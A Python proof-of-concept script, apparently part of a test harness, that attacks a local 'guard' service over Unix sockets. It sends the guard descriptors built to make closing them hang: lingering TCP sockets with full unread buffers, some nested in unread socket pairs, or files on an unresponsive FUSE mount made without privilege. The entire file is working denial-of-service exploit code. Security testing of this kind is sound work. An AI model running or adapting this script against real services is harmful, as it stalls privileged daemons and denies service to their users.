"""attack.py KIND WAY: sends descriptors to the guard, says "sent", and holds what makes them slow.

KIND is lingering (100 TCP sockets with SO_LINGER, whose data nobody takes) or hung (70 descriptors of a
FUSE file whose server answers no FLUSH and no RELEASE). WAY is datagram or stream. Needs no privilege:
the FUSE is mounted in a user namespace of its own.
"""

import contextlib
import fcntl
import signal
import socket
import struct
import sys
import tempfile
import termios
import time

import hung_fuse
import machine

CALL = b'{"method":"org.postern.Actions.Ping","parameters":{"ping":"x"}}'
LINGERING = 100
HUNG = 70


def lingering():
    """Four lists of sockets, and what keeps their closing from ending.

    Half of them are inside an unread message of a socket pair that is sent in their place: nobody
    receives those, and who closes the pair closes them.
    """
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    listener.bind(("127.0.0.1", 0))
    listener.listen(LINGERING)
    sent, peers = [], [listener]
    for number in range(LINGERING):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        one.connect(listener.getsockname())
        peers.append(listener.accept()[0])
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                one.send(b"x" * 65536)
        if number % 2:
            near, far = socket.socketpair()
            socket.send_fds(near, [b"x"], [one.fileno()])
            near.close()
            one.close()
            one = far
        sent.append(one)
    return [sent[first::4] for first in range(4)], peers


def hung():
    path = tempfile.mkdtemp(prefix="hung-")
    hung_fuse.mount(path)
    return [[open(f"{path}/hung-file", "rb", buffering=0) for _ in range(HUNG)]], None


def connection(way):
    one = socket.socket(socket.AF_UNIX,
                        socket.SOCK_DGRAM if way == "datagram" else socket.SOCK_STREAM)
    one.connect(machine.DATAGRAM if way == "datagram" else machine.SOCKET)
    return one


def unreceived(one):
    """How many bytes of it still wait to be received (unix(7): SIOCOUTQ is TIOCOUTQ)."""
    return struct.unpack("i", fcntl.ioctl(one, termios.TIOCOUTQ, b"\0" * 4))[0]


def main():
    kind, way = sys.argv[1:]
    lists, held = {"lingering": lingering, "hung": hung}[kind]()
    one = connection(way)
    end = b"" if way == "datagram" else b"\0"
    for files in lists:
        descriptors = [file.fileno() for file in files]
        # A guard that refuses them may close the connection: then they go by the next.
        try:
            socket.send_fds(one, [CALL + end], descriptors)
        except (BrokenPipeError, ConnectionResetError):
            one = connection(way)
            socket.send_fds(one, [CALL + end], descriptors)
        if kind == "lingering":
            for file in files:
                file.close()  # so that the other close is the last one
    deadline = time.monotonic() + 10
    while unreceived(one) and time.monotonic() < deadline:
        time.sleep(0.05)
    print("sent", flush=True)
    signal.pause()  # with `lists` and `held` alive
    del lists, held


if __name__ == "__main__":
    main()
